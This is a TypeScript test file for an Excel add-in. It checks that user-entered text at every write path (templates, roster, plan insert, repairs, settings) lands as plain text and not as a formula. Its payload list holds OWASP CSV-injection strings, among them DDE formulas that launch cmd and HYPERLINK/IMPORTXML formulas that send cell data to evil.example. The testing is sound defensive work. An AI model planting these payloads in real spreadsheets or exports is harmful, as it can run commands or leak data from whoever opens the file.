/**
 * Formula injection (issue 15, item 5): text people type can start with "=", "+", "-" or "@", and
 * Excel reads such text written through Range.values as a formula. Every entry point of the Excel
 * layer that writes user text goes through the one writer (src/excel/userText.ts); here each is fed
 * the OWASP CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection), and a
 * property test fills every field of generated plans with hostile text. The simulated workbook
 * parses what is written as Excel does (test/sim/values.ts), so a payload that reached a cell
 * without the text format would be stored there as a formula.
 */
import fc from "fast-check";
import { checkPlan } from "../../src/excel/checkPlan";
import { insertJapTemplate, insertJbpTemplate, insertPlanData } from "../../src/excel/insertTemplates";
import { applyRepairs } from "../../src/excel/repairs";
import { addRosterEntries, writeSettings } from "../../src/excel/settingsAndRoster";
import { DEFAULT_SETTINGS, type Repair } from "../../src/plan/model";
import type { PlanData } from "../../src/plan/sheets";
import type { SimulatedExcel } from "../sim";
import { scaledPlan } from "./support/plans";
import { useSim } from "./support/sim";

/** OWASP's CSV-injection examples and the variants Excel also reads as formulas. */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  "=1+1",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
];

/** Every formula in the workbook that is one of these texts as Excel would make it from them. */
function formulasFrom(sim: SimulatedExcel, texts: string[]): string[] {
  const made = new Set(texts.flatMap((t) => [t, `=${t}`]));
  return sim.sheets().flatMap((s) =>
    Object.entries(sim.snapshot(s.name))
      .filter(([, c]) => c.formula !== null && made.has(c.formula))
      .map(([a, c]) => `${s.name}!${a}: ${c.formula}`),
  );
}

/** Every cell value in the workbook. */
const allValues = (sim: SimulatedExcel): unknown[] => sim.sheets().flatMap((s) => Object.values(sim.snapshot(s.name)).map((c) => c.value));

describe("user text never becomes a formula, on any entry point", () => {
  const sim = useSim();

  it("Insert JAP template: the distributor", async () => {
    for (const p of PAYLOADS) await insertJapTemplate({ month: "2026-03", distributor: p });
    expect(formulasFrom(sim(), PAYLOADS)).toEqual([]);
    expect(allValues(sim())).toEqual(expect.arrayContaining(PAYLOADS));
  });

  it("Insert JBP template: principal, distributor and market", async () => {
    for (const [i, p] of PAYLOADS.entries()) await insertJbpTemplate({ year: 2026, principal: p, distributor: PAYLOADS[(i + 1) % PAYLOADS.length], market: PAYLOADS[(i + 2) % PAYLOADS.length] });
    expect(formulasFrom(sim(), PAYLOADS)).toEqual([]);
    expect(allValues(sim())).toEqual(expect.arrayContaining(PAYLOADS));
  });

  it("Insert a plan (the sample's path): every text of the roster, the JBP and the JAP", async () => {
    const plan = hostile(scaledPlan(PAYLOADS.length * 2), (i) => PAYLOADS[i % PAYLOADS.length]);
    await insertPlanData(plan);
    expect(formulasFrom(sim(), PAYLOADS)).toEqual([]);
    expect(allValues(sim())).toEqual(expect.arrayContaining(PAYLOADS));
  });

  it("Check plan's Issues column and Apply repairs, on a plan full of payloads", async () => {
    await insertPlanData(hostile(scaledPlan(PAYLOADS.length * 2), (i) => PAYLOADS[i % PAYLOADS.length]));
    const { findings } = await checkPlan();
    expect(findings.length).toBeGreaterThan(0);
    const { jap } = { jap: "JAP 2026-03" };
    // A repair that writes a payload (a roster name chosen as owner, an ID): it must land as text.
    const repairs: Repair[] = PAYLOADS.map((p, i) => ({ sheet: jap, cell: `F${8 + i}`, value: p, label: `Use '${p}'` }));
    const r = await applyRepairs(repairs);
    expect(r.applied).toBe(PAYLOADS.length);
    expect(formulasFrom(sim(), PAYLOADS)).toEqual([]);
    PAYLOADS.forEach((p, i) => expect(sim().cell(jap, `F${8 + i}`)).toMatchObject({ value: p, formula: null }));
  });

  it("Add to Roster, on the add-in's Roster and on a Roster made by the user with Insert > Table", async () => {
    await insertJapTemplate({ month: "2026-03" });
    const people = PAYLOADS.map((p, i) => ({ name: `${p}${i}`, party: "Principal" as const, role: p, email: p, active: true }));
    expect((await addRosterEntries(people)).added).toBe(PAYLOADS.length);
    expect(formulasFrom(sim(), [...PAYLOADS, ...people.map((x) => x.name)])).toEqual([]);
    expect(allValues(sim())).toEqual(expect.arrayContaining(people.map((x) => x.name)));
  });

  it("Add to Roster on a table the user made, with no text format on its columns (issue 15's case)", async () => {
    sim().addSheet("People");
    sim().setCells("People", "A1", [["Name", "Party", "Role", "Email", "Active"], ["Ana Silva", "Principal", "KAM", "ana@example.com", true]]);
    await Excel.run(async (context) => {
      context.workbook.worksheets.getItem("People").tables.add("A1:E2", true);
      await context.sync();
    });
    const people = PAYLOADS.map((p, i) => ({ name: `${p}${i}`, party: "Distributor" as const, role: p, email: p, active: true }));
    expect((await addRosterEntries(people)).added).toBe(PAYLOADS.length);
    expect(formulasFrom(sim(), [...PAYLOADS, ...people.map((x) => x.name)])).toEqual([]);
    expect(sim().cell("People", "A3")).toMatchObject({ value: people[0].name, formula: null });
    expect(sim().tables().find((t) => t.sheet === "People")!.rowCount).toBe(1 + PAYLOADS.length);
  });

  it("Settings: text settings are choices, so a payload is refused with a message and nothing is written", async () => {
    await insertJapTemplate({ month: "2026-03" });
    const before = sim().snapshot("Settings");
    for (const p of PAYLOADS) {
      await expect(writeSettings({ ...DEFAULT_SETTINGS, rollUp: p as never })).rejects.toMatchObject({ code: "invalidInput" });
    }
    expect(sim().snapshot("Settings")).toEqual(before);
  });
});

/** The plan with every text field (header blocks and rows) replaced by `text(i)`. */
function hostile(plan: PlanData, text: (i: number) => string): PlanData {
  let i = 0;
  const swap = (row: Record<string, unknown>): Record<string, unknown> =>
    Object.fromEntries(Object.entries(row).map(([k, v]) => [k, typeof v === "string" ? text(i++) : v]));
  return {
    ...plan,
    roster: plan.roster.map(swap) as PlanData["roster"],
    jbp: { header: swap(plan.jbp.header) as PlanData["jbp"]["header"], objectives: plan.jbp.objectives.map(swap) as PlanData["jbp"]["objectives"] },
    jap: { header: swap(plan.jap.header) as PlanData["jap"]["header"], actions: plan.jap.actions.map(swap) as PlanData["jap"]["actions"] },
  };
}

describe("property: generated plans with hostile text in every field", () => {
  const sim = useSim();

  const hostileText = fc.oneof(
    fc.constantFrom(...PAYLOADS),
    fc.tuple(fc.constantFrom("=", "+", "-", "@", "=-", "+=", "@="), fc.string({ minLength: 1, maxLength: 12 })).map(([a, b]) => a + b),
  );

  it("no formula is made from user text through insert, check and repairs", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(hostileText, { minLength: 8, maxLength: 40 }), async (texts) => {
        // A fresh workbook each run: the plan's sheets are named the same.
        for (const s of sim().sheets()) if (s.name !== "Sheet1") await Excel.run(async (c) => { c.workbook.worksheets.getItem(s.name).delete(); await c.sync(); });
        const plan = hostile(scaledPlan(6), (i) => texts[i % texts.length]);
        await insertPlanData(plan);
        const { findings } = await checkPlan();
        await applyRepairs(findings.flatMap((f) => (f.repair ? [f.repair] : [])));
        const used = [...new Set(texts)];
        expect(formulasFrom(sim(), used)).toEqual([]);
        const values = new Set(allValues(sim()));
        // Every text is still in the workbook as typed (a repair may have replaced some cells).
        expect(used.filter((t) => values.has(t)).length).toBeGreaterThan(0);
      }),
      { numRuns: 12 },
    );
  });
});
